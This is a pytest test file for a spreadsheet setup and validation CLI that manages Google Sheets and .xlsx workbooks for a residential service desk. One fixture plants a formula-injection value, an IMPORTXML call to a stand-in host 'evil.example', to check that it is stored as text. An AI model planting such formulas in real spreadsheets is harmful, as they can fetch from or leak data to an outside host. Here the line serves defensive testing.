"""setup-sheet and check --annotate write to Google Sheets, idempotently; template writes .xlsx."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path
from zoneinfo import ZoneInfo

from openpyxl import load_workbook

from deskbook.schema.validate import validate
from deskbook.sources.google.credentials import WRITE_SCOPES
from deskbook.sources.xlsx import XlsxSource
from tests.conftest import run_cli as run
from tests.sheets_helpers import EMAIL, MAIN, sheets_handbook, spec_tabs
from tests.sheets_server import SheetsServer


def state(server: SheetsServer) -> dict[str, object]:
    """Everything setup-sheet may change, in comparable form."""
    book = server.api.books[MAIN]
    return {
        s.title: (s.gid, s.frozen, dict(s.cells), list(s.validations), list(s.formats))
        for s in book.sheets
    }


def test_setup_sheet_prepares_the_spreadsheet_once(server: SheetsServer, tmp_path: Path) -> None:
    tabs = spec_tabs()
    staff = tabs["員工"]
    # Only two tabs exist: staff (no frozen row, no dropdowns) and an unrelated one.
    server.api.add_book(MAIN, "新台帳", {"員工": staff, "備忘": [["隨手記"]]}, {EMAIL})
    config = sheets_handbook(tmp_path / "hb", server)

    code, out, err = run("setup-sheet", "--config", str(config), "--lang", "en")
    assert code == 0, out + err
    assert out.strip() == (
        "新台帳: 10 tabs created, 1 header rows frozen, 18 dropdown columns set."
    )
    assert server.api.counts["batchUpdate"] == 1
    assert server.api.tokens[server.api.issued[-1]].scopes == set(WRITE_SCOPES)
    book = server.api.books[MAIN]
    assert [s.title for s in book.sheets] == [
        "員工",
        "備忘",
        "Training sessions",
        "Training attendance",
        "Training plan",
        "Owners",
        "Tickets",
        "Fees",
        "Fee reminders",
        "Announcements",
        "Responsibilities",
        "SOP acknowledgements",
    ]
    staff_sheet = book.sheet("員工")
    assert staff_sheet is not None and staff_sheet.frozen == 1
    assert staff_sheet.cells[(1, 0)].value == "S001"  # data left as it was
    rule = staff_sheet.validation(1, 5)  # 狀態, second row
    assert rule is not None and rule["condition"]["values"] == [
        {"userEnteredValue": "Active"},
        {"userEnteredValue": "On leave"},
        {"userEnteredValue": "Left"},
    ]
    owners = book.sheet("Owners")
    assert owners is not None and owners.frozen == 1
    assert owners.cells[(0, 0)].value == "Unit"
    assert owners.validation(5, 9)["condition"]["values"][0] == {
        "userEnteredValue": "Owner-occupied"
    }
    before = state(server)

    server.api.reset_counts()
    code, out, _ = run("setup-sheet", "--config", str(config), "--lang", "en")
    assert code == 0
    assert out.strip() == "新台帳: already set up; nothing to change."
    assert server.api.counts["batchUpdate"] == 0
    assert {k: v for k, v in server.api.counts.items() if k != "token"} == {"sheets.get": 2}
    assert state(server) == before

    # The clerks' spreadsheet now checks clean but for owners and duties, which every office
    # has: tabs with headers and no rows yet are fine, except those, which hold the handbook
    # back until they are filled in (a new office says [sync] allow_empty = true meanwhile).
    code, out, _ = run("check", "--config", str(config), "--json")
    assert code == 1
    issues = json.loads(out)["issues"]
    assert [(i["code"], i["tab"]) for i in issues] == [
        ("empty-required-tab", "owners"),
        ("empty-required-tab", "responsibilities"),
    ]


def test_check_annotate_writes_issues_where_clerks_edit(
    server: SheetsServer, tmp_path: Path
) -> None:
    tabs = spec_tabs()
    tabs["業主"][1][2] = "138-12"
    tabs["收費"][1][3] = '=IMPORTXML("http://evil.example","//a")'
    server.api.add_book(MAIN, "翠湖花園客服台帳", tabs, {EMAIL})
    config = sheets_handbook(tmp_path / "hb", server)
    args = ["check", "--config", str(config), "--lang", "en", "--annotate"]

    code, out, _ = run(*args)
    assert code == 1
    assert "翠湖花園客服台帳: wrote 2 issues into the _deskbook tab." in out
    grid = server.api.grid(MAIN, "_deskbook")
    owners_gid = server.api.books[MAIN].sheet("業主").gid
    assert grid[0] == ["Cell", "Code", "Severity", "What to do"]
    assert grid[1][:3] == [
        f'=HYPERLINK("#gid={owners_gid}&range=C2","業主!C2")',
        "invalid-phone",
        "Error",
    ]
    # A clerk's formula-looking text is written back as text, never as a formula.
    fees = server.api.books[MAIN].sheet("_deskbook").cells[(2, 3)]
    assert fees.formula is None and "IMPORTXML" in fees.value

    server.api.reset_counts()
    code, out, _ = run(*args)
    assert code == 1
    assert "翠湖花園客服台帳: the _deskbook tab is up to date; nothing written." in out
    assert server.api.counts["batchUpdate"] == 0
    assert server.api.grid(MAIN, "_deskbook") == grid

    # Fixed in the sheet: the next run rewrites the tab, and old rows are cleared.
    server.api.set_cell(MAIN, "業主", "C2", "13812345678")
    server.api.set_cell(MAIN, "收費", "D2", 250.6)
    code, out, _ = run(*args)
    assert code == 0
    assert server.api.grid(MAIN, "_deskbook") == [grid[0]]


def test_annotate_needs_google_sheets(tmp_path: Path, minimal_handbook: Path) -> None:
    code, _, err = run("check", "--config", str(minimal_handbook), "--lang", "en", "--annotate")
    assert code == 2
    assert err.strip() == (
        'check --annotate works with Google Sheets only ([source] kind = "gsheets"); '
        "this handbook reads xlsx."
    )


def test_template_is_a_clean_empty_workbook_with_dropdowns(tmp_path: Path) -> None:
    path = tmp_path / "blank.xlsx"
    code, out, _ = run("template", str(path))
    assert code == 0
    assert out.strip() == f"已寫出空白活頁簿 {path}（11 個分頁，含表頭與下拉選單）。"
    zone = ZoneInfo("Asia/Shanghai")
    dataset = validate(XlsxSource(path).read(), zone, dt.datetime(2026, 11, 27, tzinfo=zone))
    assert dataset.issues == []
    book = load_workbook(path)
    staff = book["員工"]
    assert staff.freeze_panes == "A2"
    dropdowns = {str(v.sqref): v.formula1 for v in staff.data_validations.dataValidation}
    assert dropdowns["F2:F5000"] == '"在職,休假,離職"'  # 狀態
    assert staff.column_dimensions["E"].number_format == "yyyy-mm-dd"  # 入職日期
    assert book["業主"].column_dimensions["C"].number_format == "@"  # phones stay text

    code, _, err = run("template", str(path), "--lang", "en")
    assert code == 2
    assert f"{path} already exists and was left alone." in err
